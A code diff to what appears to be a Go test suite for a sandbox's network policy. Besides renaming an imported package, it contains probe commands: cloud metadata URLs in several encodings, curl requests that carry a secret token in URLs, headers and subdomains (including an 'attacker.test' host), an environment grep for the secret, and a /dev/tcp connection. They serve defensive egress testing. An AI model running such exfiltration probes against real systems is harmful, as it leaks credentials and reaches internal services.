@@ -11,7 +11,7 @@ import (
 	"time"
 
 	"github.com/paddock-sandbox/paddock"
-	"github.com/paddock-sandbox/paddock/attack/target"
+	"github.com/paddock-sandbox/paddock/attack/protocol"
 )
 
 // aliveScript shows the host that the network works.
@@ -57,7 +57,7 @@ func networkScripts(id string) []spell {
 		return fetch("", "http://169.254.169.254/", "http://100.100.100.200/", "http://[fd00:ec2::254]/", "http://2852039166/", "http://[::ffff:169.254.169.254]/", "http://[64:ff9b::a9fe:a9fe]/", "http://meta.test/", "http://meta6.test/", "http://127.0.0.1/", "http://own.test/", "http://9.9.0.2/", "http://10.0.0.1/", "http://private.test/")
 	case "N07":
 		var urls []string
-		for name := range target.Turned() {
+		for name := range protocol.Turned() {
 			urls = append(urls, "http://"+name+"/")
 		}
 		slices.Sort(urls)
@@ -108,7 +108,7 @@ func nameScripts(id string) []spell {
 }
 
 func requestScripts(id string) []spell {
-	auth := `-H "Authorization: Bearer $` + target.SecretEnv + `" `
+	auth := `-H "Authorization: Bearer $` + protocol.SecretEnv + `" `
 	switch id {
 	case "N11":
 		return append(curls("header: ", `-H "Host: stranger.test" http://allowed.test/`, `-H "Host: stranger.test" http://inspect.test/ok`, `-H "Host: inspect-b.test" http://inspect.test/ok`, `-H "Host: stranger.test" https://inspect.test/ok`),
@@ -125,15 +125,15 @@ func requestScripts(id string) []spell {
 			curls("path ", "http://inspect.test/exfil", "http://inspect.test/ok/../exfil", "http://inspect.test/ok/%2e%2e/exfil", "http://inspect.test/ok%2f..%2fexfil"),
 			[]spell{{"more than is allowed", `head -c 1000000 /dev/zero | curl -sf -m 5 --data-binary @- http://limited.test/`}, {"told: in what is allowed", `curl -sf -m 3 "http://inspect.test/ok/data?q=data"`}})
 	case "N29":
-		key := "$" + target.SecretEnv
+		key := "$" + protocol.SecretEnv
 		return curls("", auth+"http://allowed.test/", auth+"https://inspect.test/ok", auth+"http://secret.test/ok", auth+"http://secret.test:443/ok", `"https://secret.test/ok/`+key+`"`, `-d "`+key+`" https://secret.test/ok`, `-H "Host: `+key+`" https://secret.test/ok`, `-H "`+key+`: x" https://secret.test/ok`, `"http://`+key+`.wild.test/"`, `"http://`+key+`.attacker.test/"`)
 	case "N30":
 		var list []spell
 		for _, as := range []string{"plain", "percent", "json", "header", "cookie", "location", "challenge", "error", "chunks", "type"} {
-			list = append(list, spell{as, fmt.Sprintf(`curl -sik -m 5 %s"https://secret.test/ok/echo?as=%s&q=$%s"`, auth, as, target.SecretEnv)})
+			list = append(list, spell{as, fmt.Sprintf(`curl -sik -m 5 %s"https://secret.test/ok/echo?as=%s&q=$%s"`, auth, as, protocol.SecretEnv)})
 		}
 		return append(list, spell{"base64", `curl -sk -m 5 ` + auth + `"https://secret.test/ok/echo?as=base64" | base64 -d`}, spell{"gzip", `curl -sk -m 5 --compressed ` + auth + `"https://secret.test/ok/echo?as=gzip"; curl -sk -m 5 ` + auth + `"https://secret.test/ok/echo?as=gzip" | gunzip`},
-			spell{"a part", `curl -sk -m 5 -r 10-60 ` + auth + `"https://secret.test/ok/echo?as=plain"`}, spell{"environment", `env | grep ` + target.SecretEnv})
+			spell{"a part", `curl -sk -m 5 -r 10-60 ` + auth + `"https://secret.test/ok/echo?as=plain"`}, spell{"environment", `env | grep ` + protocol.SecretEnv})
 	}
 	return nil
 }
@@ -166,7 +166,7 @@ func smuggledScripts(id string) []spell {
 func open() paddock.NetworkPolicy {
 	ports := []uint16{22, 25, 53, 80, 443, 853, 1080, 3128, 8080}
 	p := paddock.NetworkPolicy{Mode: paddock.NetworkList}
-	for _, h := range []string{"*", "0.0.0.0/0", "::/0", "127.0.0.0/8", "10.0.0.0/8", "169.254.0.0/16", target.HostAddr} {
+	for _, h := range []string{"*", "0.0.0.0/0", "::/0", "127.0.0.0/8", "10.0.0.0/8", "169.254.0.0/16", protocol.HostAddr} {
 		p.Rules = append(p.Rules, paddock.NetworkRule{Host: h, Ports: ports})
 	}
 	return p
@@ -176,7 +176,7 @@ func open() paddock.NetworkPolicy {
 // some script succeeds where all is allowed. Otherwise refusals would prove nothing.
 func (x *trial) online(ctx context.Context, sb paddock.Sandbox, ways []spell) error {
 	if x.w.brief.Phase != killedPhase {
-		if try, err := x.script(ctx, sb, spell{"alive", aliveScript}); err != nil || try.Outcome != target.Inside {
+		if try, err := x.script(ctx, sb, spell{"alive", aliveScript}); err != nil || try.Outcome != protocol.Inside {
 			return errors.Join(err, fmt.Errorf("what is allowed cannot be reached: %s", try.Detail))
 		}
 	}
@@ -203,7 +203,7 @@ func (x *trial) online(ctx context.Context, sb paddock.Sandbox, ways []spell) er
 	for _, way := range ways {
 		if try, err := x.script(ctx, free, way); err != nil {
 			return err
-		} else if try.Outcome == target.Inside {
+		} else if try.Outcome == protocol.Inside {
 			return nil
 		}
 	}
@@ -251,12 +251,12 @@ func (l *log) has(text string) bool {
 }
 
 // changeScripts is N25 for a tier with scripts only.
-func (x *trial) changeScripts() []target.Try {
+func (x *trial) changeScripts() []protocol.Try {
 	ctx, cancel := x.brief(time.Minute)
 	defer cancel()
 	sb, err := x.box(nil)
 	if err != nil {
-		return []target.Try{broken("create", err)}
+		return []protocol.Try{broken("create", err)}
 	}
 	defer func() {
 		if err := sb.Remove(context.WithoutCancel(ctx)); err != nil {
@@ -264,22 +264,22 @@ func (x *trial) changeScripts() []target.Try {
 		}
 	}()
 	if err := x.online(ctx, sb, nil); err != nil {
-		return []target.Try{broken("before", err)}
+		return []protocol.Try{broken("before", err)}
 	}
 	out := &log{}
 	held := `exec 3<> /dev/tcp/allowed.test/22 && head -n 1 <&3 && echo held && cat <&3; echo "it is closed"`
 	p, err := sb.Start(ctx, paddock.Cmd{Args: []string{"bash", "-c", held}, Output: paddock.Output{Stdout: out, Stderr: out}})
 	if err != nil {
-		return []target.Try{broken("hold", err)}
+		return []protocol.Try{broken("hold", err)}
 	}
 	defer p.Release()
 	if !eventually(20*time.Second, func() bool { return out.has("held\n") }) || out.has("it is closed") {
-		return []target.Try{broken("hold", fmt.Errorf("nothing is open: %q", &out.text))}
+		return []protocol.Try{broken("hold", fmt.Errorf("nothing is open: %q", &out.text))}
 	}
 	if err := x.narrow(sb); err != nil {
-		return []target.Try{broken("update", err)}
+		return []protocol.Try{broken("update", err)}
 	}
-	tries := []target.Try{{Name: "what is open", Outcome: target.Denied, Errno: "closed"}}
+	tries := []protocol.Try{{Name: "what is open", Outcome: protocol.Denied, Errno: "closed"}}
 	if !eventually(10*time.Second, func() bool { return out.has("it is closed") }) {
 		tries[0] = reached("what is open", "it is still open")
 	}
@@ -288,12 +288,12 @@ func (x *trial) changeScripts() []target.Try {
 		if err != nil {
 			return append(tries, broken(s.name, err))
 		}
-		if try.Outcome == target.Inside {
-			try.Outcome = target.Reached
+		if try.Outcome == protocol.Inside {
+			try.Outcome = protocol.Reached
 		}
 		tries = append(tries, try)
 	}
-	if try, err := x.script(ctx, sb, spell{"still allowed", `curl -sf -m 5 http://second.test/`}); err != nil || try.Outcome != target.Inside {
+	if try, err := x.script(ctx, sb, spell{"still allowed", `curl -sf -m 5 http://second.test/`}); err != nil || try.Outcome != protocol.Inside {
 		return append(tries, broken("still allowed", errors.Join(err, errors.New(try.Detail))))
 	}
 	return tries
